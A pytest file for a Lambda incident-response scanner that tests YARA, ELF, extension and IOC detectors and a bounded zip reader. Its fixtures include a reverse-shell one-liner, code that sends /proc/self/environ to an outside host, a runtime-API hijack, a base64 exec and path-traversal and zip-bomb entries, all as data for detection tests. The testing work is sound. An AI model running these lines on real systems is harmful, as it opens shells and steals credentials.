"""Code detectors (YARA-X, ELF, extensions, IOCs) and the bounded zip reader."""

from __future__ import annotations

import hashlib
import io
import stat
import zipfile
from pathlib import Path

import pytest

from lambda_ir.analyze.archive import Limits, ReadReport, read_members
from lambda_ir.analyze.detectors import code_elf, code_extension, code_yara, ioc_match
from lambda_ir.evidence import Case
from lambda_ir.evidence.index import open_index
from lambda_ir.model import Finding, Severity
from tests.analyze.casebuild import (
    ACCOUNT,
    REGION,
    CaseBuilder,
    function_config,
    run_detector,
    trail_event,
    zip_bytes,
)
from tests.analyze.elfbuild import LIBRARY

ARN = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:orders"
BENIGN = "import json\n\ndef handler(event, context):\n    return {'ok': json.dumps(event)}\n"
# Fixtures built from each bundled rule's own strings (harmless text, never executed).
SAMPLES = {
    "LIR_Denonia_Lambda_Malware": b"\x7fELF...github.com/likexian/doh-go/provider/google..."
    b"Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)..."
    b"username:password pair for mining server",
    "LIR_Denonia_Lambda_Go_Traits": b"\x7fELF\x02\x01github.com/aws/aws-lambda-go/lambda "
    b"github.com/likexian/doh-go",
    "LIR_Cryptominer_Stratum_XMRig": b'{"url": "stratum+tcp://pool.example:3333"}',
    "LIR_Reverse_Shell": b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n",
    "LIR_Credential_Harvest_Exfiltration": b"import urllib.request\n"
    b"data = open('/proc/self/environ','rb').read()\n"
    b"urllib.request.urlopen(urllib.request.Request('https://x.example', data))\n",
    "LIR_Runtime_API_Hijack": b"import os, urllib.request\n"
    b"api = os.environ['AWS_LAMBDA_RUNTIME_API']\n"
    b"urllib.request.urlopen(f'http://{api}/2018-06-01/runtime/invocation/next')\n",
    "LIR_Obfuscated_Payload": b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
}


def _function_with(
    builder: CaseBuilder, files: dict, runtime: str = "python3.12", layers: tuple[str, ...] = ()
) -> str:
    blob = zip_bytes(files)
    entry = builder.code(blob, "orders")
    builder.versions(
        "orders", [function_config("orders", code=blob, runtime=runtime, layers=layers)]
    )
    return entry.path


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_each_bundled_rule_fires_on_its_sample(builder: CaseBuilder, rule: str) -> None:
    path = _function_with(builder, {"app.py": BENIGN, "lib/x.bin": SAMPLES[rule]})
    found = run_detector(builder, code_yara.DETECTOR)
    assert [f.detector for f in found] == [f"yara:{rule}"]
    assert found[0].evidence[0].path == path and found[0].evidence[0].member == "lib/x.bin"
    assert found[0].resource == ARN + ":$LATEST"
    assert found[0].severity.rank >= Severity.MEDIUM.rank


def test_benign_code_is_quiet(builder: CaseBuilder) -> None:
    _function_with(builder, {"app.py": BENIGN, "README.md": "stratum is a word"})
    assert run_detector(builder, code_yara.DETECTOR) == []


def test_contexts_suppress_sdk_and_custom_runtimes(builder: CaseBuilder) -> None:
    _function_with(
        builder,
        {
            "bootstrap": SAMPLES["LIR_Runtime_API_Hijack"],
            "botocore/creds.py": SAMPLES["LIR_Credential_Harvest_Exfiltration"],
        },
        runtime="provided.al2023",
    )
    assert run_detector(builder, code_yara.DETECTOR) == []


def test_user_rule_folder(builder: CaseBuilder, tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "mine.yar").write_text(
        'rule Team_Marker { meta: title = "team marker" severity = "low" '
        'strings: $a = "CANARY-1234" condition: $a }'
    )
    _function_with(builder, {"app.py": BENIGN + "# CANARY-1234\n"})
    found = run_detector(builder, code_yara.DETECTOR, yara_dirs=(rules,))
    assert [(f.detector, f.severity, f.title) for f in found] == [
        ("yara:Team_Marker", Severity.LOW, "team marker")
    ]


def test_elf_named_python_in_python_function(builder: CaseBuilder) -> None:
    path = _function_with(
        builder,
        {
            "app.py": BENIGN,
            "python": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
            "lib/_speedups.cpython-312.so": LIBRARY,
        },
    )
    found = run_detector(builder, code_elf.DETECTOR)
    assert [(f.details["member"], f.severity) for f in found] == [("python", Severity.HIGH)]
    assert found[0].evidence[0].path == path


def test_elf_with_an_ordinary_name_is_low(builder: CaseBuilder) -> None:
    """A bundled tool (ffmpeg and the like) is common: LOW, unless named like the interpreter."""
    _function_with(builder, {"app.py": BENIGN, "bin/ffmpeg": b"\x7fELF\x02\x01\x01" + b"\0" * 64})
    found = run_detector(builder, code_elf.DETECTOR)
    assert [(f.details["member"], f.severity) for f in found] == [("bin/ffmpeg", Severity.LOW)]


def test_elf_in_custom_runtime_is_quiet(builder: CaseBuilder) -> None:
    _function_with(builder, {"bootstrap": b"\x7fELF\x02\x01\x01"}, runtime="provided.al2")
    assert run_detector(builder, code_elf.DETECTOR) == []


def test_extension_in_layer(builder: CaseBuilder) -> None:
    layer = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:ext:1"
    _, blob = builder.layer(
        layer, zip_bytes({"extensions/spy": "#!/bin/sh\n", "python/lib/x.py": "x=1"})
    )
    _function_with(builder, {"app.py": BENIGN}, layers=(layer,))
    found = run_detector(builder, code_extension.DETECTOR)
    assert [f.details["member"] for f in found] == ["extensions/spy"]
    assert found[0].resource == ARN + ":$LATEST"
    assert (
        found[0].evidence[0].path == blob.path and found[0].evidence[0].member == "extensions/spy"
    )


def test_an_extension_spelled_another_way_is_judged_where_it_unpacks(
    builder: CaseBuilder,
) -> None:
    """unzip and zipfile write `./extensions/a`, `extensions//b` and `/extensions/c` into
    extensions/ (and a DOS-made zip's `extensions\\d` for unzip): each is an extension, cited
    by the name the zip gives it."""
    layer = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:ext:1"
    spelled = ["./extensions/a", "extensions//b", "/extensions/c", "extensions\\d"]
    _, blob = builder.layer(layer, zip_bytes(dict.fromkeys(spelled, "#!/bin/sh\n")))
    _function_with(builder, {"app.py": BENIGN}, layers=(layer,))
    found = run_detector(builder, code_extension.DETECTOR)
    assert sorted(f.evidence[0].member for f in found) == sorted(spelled)
    assert all(f.evidence[0].path == blob.path for f in found)
    (dotted,) = [f for f in found if f.details["member"] == "./extensions/a"]
    assert "./extensions/a (unpacked as extensions/a)" in dotted.summary


def test_sdk_context_judges_where_a_file_unpacks(builder: CaseBuilder) -> None:
    """`botocore/../creds.py` unpacks beside the handler, not in botocore: not the SDK's."""
    _function_with(
        builder,
        {"app.py": BENIGN, "botocore/../creds.py": SAMPLES["LIR_Credential_Harvest_Exfiltration"]},
    )
    found = run_detector(builder, code_yara.DETECTOR)
    assert [f.evidence[0].member for f in found] == ["botocore/../creds.py"]


def test_layer_without_extensions_is_quiet(builder: CaseBuilder) -> None:
    builder.layer(
        f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:deps:1",
        zip_bytes({"python/requests/api.py": "x=1"}),
    )
    assert run_detector(builder, code_extension.DETECTOR) == []


def test_ioc_in_code_by_text_and_by_user_hash(builder: CaseBuilder, tmp_path: Path) -> None:
    payload = b"\x7fELF fake sample"
    iocs = tmp_path / "iocs.txt"
    iocs.write_text(f"{hashlib.sha256(payload).hexdigest()}  # our sample\n")
    path = _function_with(
        builder,
        {
            "app.py": BENIGN + "URL='https://gw.denonia[.]xyz'\n".replace("[.]", "."),
            "bin/x": payload,
        },
    )
    found = run_detector(builder, ioc_match.DETECTOR, ioc_files=(iocs,))
    by_member = {f.evidence[0].member: f for f in found}
    assert by_member["app.py"].details["indicators"] == ["gw.denonia.xyz"]
    assert by_member["bin/x"].severity is Severity.CRITICAL
    assert all(f.evidence[0].path == path for f in found)


def test_ioc_in_logs_and_trail(builder: CaseBuilder) -> None:
    logs = builder.logs(
        "/aws/lambda/orders",
        [
            {
                "timestamp": 1764676800000,
                "message": "connecting to 116.203.4.0:3333",
                "logStreamName": "s1",
            },
            {"timestamp": 1764676801000, "message": "ok", "logStreamName": "s1"},
        ],
    )
    trail = builder.trail(
        [
            trail_event(
                "GetCallerIdentity", {}, source="sts.amazonaws.com", source_ip="162.55.241.99"
            ),
            trail_event(
                "UpdateFunctionConfiguration20150331v2",
                {"functionName": "orders", "environment": {"variables": {"C2": "gw.denonia.xyz"}}},
                event_id="e2",
            ),
        ]
    )
    found = run_detector(builder, ioc_match.DETECTOR)
    assert {(f.evidence[0].path, f.details["indicator"]) for f in found} == {
        (logs.path, "116.203.4.0"),
        (trail.path, "162.55.241.99"),
        (trail.path, "gw.denonia.xyz"),
    }
    assert next(f for f in found if f.evidence[0].path == logs.path).resource == ARN


@pytest.mark.parametrize("with_event_ids", [True, False])
def test_ioc_in_logs_collected_twice_is_one_finding(
    builder: CaseBuilder, with_event_ids: bool
) -> None:
    """A second collection over an overlapping window stores events 1-3 again: still one
    finding for the group and indicator, each event counted once (as the index counts
    them), both artifacts cited, and the id the first collection gave it."""
    stream = "2025/12/02/[$LATEST]abc"

    def event(n: int, text: str = "connecting to 116.203.4.0:3333") -> dict[str, object]:
        # Events 2k and 2k+1 share a millisecond with different text: two events, not one.
        line = {"timestamp": 1764676800000 + 1000 * (n // 2), "message": f"{text} #{n % 2}"}
        return {**line, "logStreamName": stream} | ({"eventId": f"e{n}"} if with_event_ids else {})

    first = builder.logs("/aws/lambda/orders", [event(n) for n in (0, 1, 2, 3)], "events-w1")
    (alone,) = run_detector(builder, ioc_match.DETECTOR)
    # Event 5 logged twice in one millisecond: CloudWatch's eventIds tell the two apart;
    # without them the copies are one event, to the index and to the detector alike.
    twice = {**event(5), "eventId": "e5b"} if with_event_ids else event(5)
    again = [event(n) for n in (1, 2, 3, 4, 5)] + [twice]
    second = builder.logs("/aws/lambda/orders", again, "events-w2")
    builder.logs("/aws/lambda/orders", [event(6, "all quiet")], "events-w3")
    (found,) = run_detector(builder, ioc_match.DETECTOR)
    with open_index(Case.open(builder.root)) as index:
        (indexed,) = index.execute(
            "SELECT count(*) FROM log_events WHERE contains(message, '116.203.4.0')"
        ).fetchone() or (0,)
    assert alone.details["lines"] == 4
    assert found.details["lines"] == indexed == (7 if with_event_ids else 6)
    assert found.summary.startswith(f"{indexed} log line(s) of /aws/lambda/orders mention")
    assert [ref.path for ref in found.evidence] == [first.path, second.path]
    assert found.id == alone.id and found.resource == ARN
    assert found.time == "2025-12-02T12:00:00Z"


def test_ioc_quiet_on_clean_case(builder: CaseBuilder) -> None:
    _function_with(builder, {"app.py": BENIGN})
    builder.logs("/aws/lambda/orders", [{"timestamp": 1, "message": "116.203.4.01 denonia.xyzz"}])
    assert run_detector(builder, ioc_match.DETECTOR) == []


def _raw_zip(entries: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in entries:
            archive.writestr(info, data)
    return buf.getvalue()


def test_reader_refuses_bombs_and_skips_links() -> None:
    link = zipfile.ZipInfo("evil-link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    bomb = zipfile.ZipInfo("bomb.txt")
    bomb.compress_type = zipfile.ZIP_DEFLATED
    package = _raw_zip(
        [
            (zipfile.ZipInfo("../../etc/passwd"), b"x"),
            (link, b"/etc/shadow"),
            (bomb, b"\0" * 5_000_000),
            (zipfile.ZipInfo("ok.py"), b"print(1)"),
        ]
    )
    report = ReadReport()
    names = [m.name for m in read_members(package, Limits(max_ratio=100), report)]
    assert names == ["../../etc/passwd", "ok.py"]  # read as data only, never written anywhere
    assert any("bomb.txt" in s and "ratio" in s for s in report.skipped)
    report = ReadReport()
    assert list(read_members(b"not a zip", report=report)) == [] and report.skipped
    small = ReadReport()
    assert [m.name for m in read_members(package, Limits(max_member=4), small)] == [
        "../../etc/passwd"
    ]


def test_bundled_rules_declare_title_severity_and_attack() -> None:
    import re

    import yara_x

    from lambda_ir.analyze.yara_scan import bundled_sources

    checked = 0
    for origin, source in bundled_sources():
        rules = yara_x.compile(source)
        for rule in rules:
            checked += 1
            meta = dict(rule.metadata)
            assert meta.get("title"), (origin, rule.identifier)
            assert Severity(meta["severity"]) in Severity
            assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", a) for a in meta["attack"].split(","))
    assert checked == len(SAMPLES)  # every bundled rule has a firing sample above
    assert "Cado" in bundled_sources()[0][1]  # the Denonia rule credits its source


def test_layers_with_the_same_bytes_are_judged_and_named_each_as_itself(
    builder: CaseBuilder,
) -> None:
    # One payload published twice: in the function's own account under Datadog's layer name,
    # and from another account under a look-alike name. The case stores the bytes once; each
    # function's finding names the layer it carries, judged by that layer's publisher (the
    # look-alike's HIGH once landed on the other function, naming a layer it does not carry).
    own = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:Datadog-Extension:1"
    foreign = f"arn:aws:lambda:{REGION}:210987654321:layer:datadog-extension-ARM:1"
    payload = zip_bytes({"extensions/datadog-agent": b"\x7fELF\x02\x01\x01" + b"\0" * 64})
    builder.layer(own, payload)
    builder.layer(foreign, payload)
    builder.versions("checkout", [function_config("checkout", layers=[own])])
    builder.versions("inventory", [function_config("inventory", layers=[foreign])])
    found = run_detector(builder, code_extension.DETECTOR)
    fn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:"
    by_resource = {f.resource: f for f in found}
    assert sorted(by_resource) == [fn + "checkout:$LATEST", fn + "inventory:$LATEST"]
    checkout = by_resource[fn + "checkout:$LATEST"]
    inventory = by_resource[fn + "inventory:$LATEST"]
    assert f"Layer {own} contains" in checkout.summary and foreign not in checkout.summary
    assert checkout.details["used_by"] == [fn + "checkout:$LATEST", own]
    assert f"Layer {foreign} contains" in inventory.summary
    assert inventory.severity is Severity.HIGH and "named like Datadog's" in inventory.summary
    assert checkout.severity is Severity.MEDIUM  # not a vendor's: confirm who ships it
    elf = {f.resource: f for f in run_detector(builder, code_elf.DETECTOR)}
    assert elf[fn + "checkout:$LATEST"].severity is Severity.LOW
    assert foreign not in str(elf[fn + "checkout:$LATEST"].details)
    assert elf[fn + "inventory:$LATEST"].severity is Severity.HIGH


DATADOG_EXTENSION = f"arn:aws:lambda:{REGION}:464622532012:layer:Datadog-Extension:65"
AGENT = {"extensions/datadog-agent": b"\x7fELF\x02\x01\x01" + b"\0" * 64}


@pytest.mark.parametrize("after", [True, False])
def test_an_own_layer_replacing_a_vendors_extension_is_high(
    builder: CaseBuilder, after: bool
) -> None:
    # A layer of the account's own, named like nothing, shipping Datadog's extension file:
    # listed after Datadog's genuine layer, its copy is the one that starts.
    mine = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:shared-utils:3"
    builder.layer(DATADOG_EXTENSION, zip_bytes(AGENT))
    builder.layer(mine, zip_bytes({**AGENT, "python/x.py": "x=1"}))
    layers = [DATADOG_EXTENSION, mine] if after else [mine, DATADOG_EXTENSION]
    builder.versions("orders", [function_config("orders", layers=layers)])
    found = {f.summary.split()[1]: f for f in run_detector(builder, code_extension.DETECTOR)}
    assert found[DATADOG_EXTENSION].severity is Severity.INFO
    copy = found[mine]
    if after:
        assert copy.severity is Severity.HIGH and copy.details["replaces"] == DATADOG_EXTENSION
        assert f"replaces the extensions/datadog-agent of layer {DATADOG_EXTENSION}" in (
            copy.summary
        )
    else:  # Datadog's copy, unpacked later, is the one that runs: a private copy, confirm
        assert copy.severity is Severity.MEDIUM and copy.details["replaces"] is None
        assert "the name of Datadog's extension, in a layer of the function's own account" in (
            copy.summary
        )


@pytest.mark.parametrize(
    ("extension", "severity"),
    [
        ("AWSParametersAndSecretsLambdaExtension", Severity.HIGH),
        ("cloudwatch_lambda_agent", Severity.HIGH),
        ("collector", Severity.MEDIUM),  # ADOT's and OpenTelemetry's: names nobody
    ],
)
def test_a_vendors_extension_name_in_another_accounts_layer_is_a_look_alike(
    builder: CaseBuilder, extension: str, severity: Severity
) -> None:
    foreign = f"arn:aws:lambda:{REGION}:210987654321:layer:ops-helpers:2"
    finding = _extension_finding(builder, foreign, extension)
    assert finding.severity is severity
    assert ("a look-alike" in finding.summary) is (severity is Severity.HIGH)


@pytest.mark.parametrize(
    ("layer", "extension"),
    [
        ("943013980633:layer:SentryNodeServerlessSDKv10:1", "sentry-extension"),
        ("267093732750:layer:elastic-apm-extension-ver-1-5-7-x86_64:1", "apm-lambda-extension"),
        ("753240598075:layer:LambdaAdapterLayerX86:24", "lambda-adapter"),
    ],
)
def test_a_vendors_genuine_extension_is_info(
    builder: CaseBuilder, layer: str, extension: str
) -> None:
    # The file names their builds ship (Sentry's buildLambdaLayer.ts, Elastic's goreleaser,
    # the Web Adapter's release): the catalogue once listed none, or another name.
    finding = _extension_finding(builder, f"arn:aws:lambda:{REGION}:{layer}", extension)
    assert finding.severity is Severity.INFO and finding.details["vendor"] is not None


def _extension_finding(builder: CaseBuilder, layer: str, extension: str) -> Finding:
    """The one LIR-CODE-003 finding of a function carrying `layer`, which ships only
    `extensions/<extension>`."""
    builder.layer(layer, zip_bytes({f"extensions/{extension}": b"\x7fELF\x02\x01\x01"}))
    builder.versions("orders", [function_config("orders", layers=[layer])])
    [finding] = run_detector(builder, code_extension.DETECTOR)
    return finding


def test_a_function_named_layer_is_no_layer(builder: CaseBuilder) -> None:
    # `…:function:layer:$LATEST` holds ":layer:": the package's layer is the one it was
    # collected as, never an owner that reads like one.
    mine = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:shared-utils:3"
    builder.layer(DATADOG_EXTENSION, zip_bytes(AGENT))
    builder.layer(mine, zip_bytes(AGENT))  # the same bytes: stored once
    builder.versions("layer", [function_config("layer", layers=[DATADOG_EXTENSION, mine])])
    found = run_detector(builder, code_extension.DETECTOR)
    assert len({f.id for f in found}) == len(found) == 2
    copy = next(f for f in found if f.summary.startswith(f"Layer {mine} "))
    assert copy.severity is Severity.HIGH and copy.details["replaces"] == DATADOG_EXTENSION


def test_an_unlisted_extension_in_a_vendors_own_layer_is_low(builder: CaseBuilder) -> None:
    # Sentry's account, Sentry's layer, an extension name the catalogue does not (yet) list:
    # the publisher is known, the file is not: LOW, not the MEDIUM of an unknown publisher.
    layer = f"arn:aws:lambda:{REGION}:943013980633:layer:SentryNodeServerlessSDKv11:1"
    finding = _extension_finding(builder, layer, "sentry-next-extension")
    assert finding.severity is Severity.LOW and "Sentry's layer" in finding.summary


def test_another_vendors_extension_name_in_a_vendors_layer_is_not_a_newer_release(
    builder: CaseBuilder,
) -> None:
    # Sentry's account shipping Datadog's agent is no "newer release of Sentry's": MEDIUM.
    layer = f"arn:aws:lambda:{REGION}:943013980633:layer:SentryNodeServerlessSDKv11:1"
    finding = _extension_finding(builder, layer, "datadog-agent")
    assert finding.severity is Severity.MEDIUM
    assert "Sentry's layer" in finding.summary and "the name of Datadog's extension" in (
        finding.summary
    )


def _class(*strings: bytes) -> bytes:
    """A stand-in for a compiled class: the magic and its constant pool's strings (data)."""
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + b"\x01".join(strings)


def test_a_class_inside_a_jar_is_read_by_the_rules(builder: CaseBuilder) -> None:
    """The Java runtime loads `lib/*.jar`: a rule's strings are deflated inside the jar, so
    its classes are read one by one (the jar's own bytes showed nothing)."""
    miner = _class(b"com/acme/Pool", b"stratum+tcp://pool.example:3333")
    jar = zip_bytes(
        {"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n", "com/acme/Pool.class": miner}
    )
    path = _function_with(
        builder,
        {"com/acme/Handler.class": _class(b"ok"), "lib/pool-1.0.jar": jar},
        runtime="java21",
    )
    (found,) = run_detector(builder, code_yara.DETECTOR)
    assert found.detector == "yara:LIR_Cryptominer_Stratum_XMRig"
    assert found.evidence[0].path == path
    assert found.evidence[0].member == "lib/pool-1.0.jar!/com/acme/Pool.class"


def test_javas_runtime_client_inside_its_jar_is_quiet(builder: CaseBuilder) -> None:
    client = _class(b"AWS_LAMBDA_RUNTIME_API", b"/2018-06-01/runtime/invocation/next")
    ric = zip_bytes(
        {
            "com/amazonaws/services/lambda/runtime/api/client/AWSLambda.class": client,
            "aws-lambda-runtime-interface-client.glibc.so": LIBRARY + client,
        }
    )
    jar = "lib/aws-lambda-java-runtime-interface-client-2.6.0.jar"
    _function_with(builder, {"com/acme/Handler.class": _class(b"ok"), jar: ric}, runtime="java21")
    assert run_detector(builder, code_yara.DETECTOR) == []
    hijack = zip_bytes({"lib/helpers-1.0.jar": zip_bytes({"com/acme/Loop.class": client})})
    builder.code(hijack, "poller")
    builder.versions("poller", [function_config("poller", code=hijack, runtime="java21")])
    (found,) = run_detector(builder, code_yara.DETECTOR)
    assert found.evidence[0].member == "lib/helpers-1.0.jar!/com/acme/Loop.class"


def test_a_jars_files_spend_the_packages_limits_and_nest_one_level() -> None:
    inner = zip_bytes({"deep/Miner.class": _class(b"stratum+tcp://x")})
    jar = zip_bytes({f"c/C{n}.class": _class(b"x") for n in range(10)} | {"inner.jar": inner})
    package = zip_bytes({"app.py": BENIGN, "lib/a.jar": jar})
    names = [m.name for m in read_members(package, jars=True)]
    assert names[:3] == ["app.py", "lib/a.jar", "lib/a.jar!/c/C0.class"]
    assert "lib/a.jar!/inner.jar" in names  # given as a file, never opened: one level
    assert not any("deep/" in n for n in names)
    assert [m.name for m in read_members(package)] == ["app.py", "lib/a.jar"]  # only if asked
    report = ReadReport()
    capped = [m.name for m in read_members(package, Limits(max_members=6), report, jars=True)]
    assert len(capped) == 6 and "more than 6 members" in report.skipped[0]
    total = ReadReport()
    small = Limits(max_total=len(BENIGN) + len(jar) + 40)  # counting the jar's files too
    read = [m.name for m in read_members(package, small, total, jars=True)]
    assert "lib/a.jar" in read and len(read) < 13 and "total" in total.skipped[0]


def test_a_jar_of_empty_entries_cannot_starve_the_packages_own_files() -> None:
    """The package's own files are read before any jar's: a jar placed first, holding more
    entries than the member limit, leaves the files after it read."""
    filler = zip_bytes({f"e/{n}": b"" for n in range(60)})
    package = zip_bytes(
        {"lib/filler.jar": filler, "extensions/miner": SAMPLES["LIR_Cryptominer_Stratum_XMRig"]}
    )
    report = ReadReport()
    names = [m.name for m in read_members(package, Limits(max_members=20), report, jars=True)]
    assert names[:2] == ["lib/filler.jar", "extensions/miner"]
    assert len(names) == 20 and report.skipped == ["more than 20 members; rest not read"]


def test_a_jar_behind_a_launcher_script_is_read_and_a_damaged_member_is_skipped() -> None:
    jar = zip_bytes({"com/acme/Pool.class": _class(b"stratum+tcp://pool.example:3333")})
    corrupt = io.BytesIO()
    with zipfile.ZipFile(corrupt, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("com/acme/Bad.class", b"x" * 1000)
    damaged = bytearray(corrupt.getvalue())
    start = 30 + len("com/acme/Bad.class")
    damaged[start + 4 : start + 9] = b"\xff" * 5  # the LZMA stream's properties: LZMAError
    package = zip_bytes(
        {
            "lib/boot.jar": b'#!/bin/sh\nexec java -jar "$0" "$@"\n' + jar,
            "lib/bad.jar": bytes(damaged),
            "bad.class": bytes(damaged),  # the same damage at the package's top: skipped too
        }
    )
    report = ReadReport()
    names = [m.name for m in read_members(package, report=report, jars=True)]
    assert "lib/boot.jar!/com/acme/Pool.class" in names
    assert any("lib/bad.jar!/com/acme/Bad.class: unreadable" in s for s in report.skipped)


def test_only_a_java_function_may_carry_javas_runtime_client(builder: CaseBuilder) -> None:
    poller = SAMPLES["LIR_Runtime_API_Hijack"]
    _function_with(
        builder,
        {"lib/aws-lambda-java-runtime-interface-client-x.js": poller, "index.js": BENIGN},
        runtime="nodejs20.x",
    )
    (found,) = run_detector(builder, code_yara.DETECTOR)
    assert found.detector == "yara:LIR_Runtime_API_Hijack"
